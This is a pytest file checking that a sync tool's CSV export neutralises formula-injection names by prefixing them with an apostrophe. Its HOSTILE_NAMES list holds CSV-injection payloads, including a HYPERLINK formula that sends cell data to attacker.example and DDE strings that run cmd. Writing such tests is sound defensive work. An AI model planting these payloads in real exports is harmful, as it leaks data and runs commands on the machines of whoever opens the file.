"""A run's CSV export opens in a spreadsheet as text: names that look like formulas are not evaluated."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from app.sync.model import ObjectKind, PlanCategory, PlanEntry, Reason, ReasonCode
from app.sync.state import Outcome, StateStore, csv_safe
from tests.sync.factories import user

HOSTILE_NAMES = [
    '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def test_names_that_start_a_formula_are_exported_as_text(tmp_path: Path) -> None:
    store = StateStore.open(tmp_path / "s.db")
    run = store.start_run("manual", "full")
    for name in [*HOSTILE_NAMES, "alice.adams", "o'brien - sales"]:
        src = user(name.strip()[:20] or "x")
        entry = PlanEntry(
            PlanCategory.NEW, ObjectKind.USER, src.anchor + name, None, name, Reason(ReasonCode.NEW_IN_SCOPE)
        )
        store.record_outcome(run, entry, Outcome.FAILED, error_code="-scim_400")
    out = io.StringIO()
    assert store.export_outcomes_csv(run, out) == len(HOSTILE_NAMES) + 2
    store.close()
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    names = [row["display_name"] for row in rows]
    assert sorted(names) == sorted(["'" + name for name in HOSTILE_NAMES] + ["alice.adams", "o'brien - sales"])
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")), value
        assert row["error_code"] == "'-scim_400"


@pytest.mark.parametrize("cell", ["", "alice", "42", "2026-12-01T10:00:00+00:00", "a=b", "x-y"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert csv_safe(cell) == cell
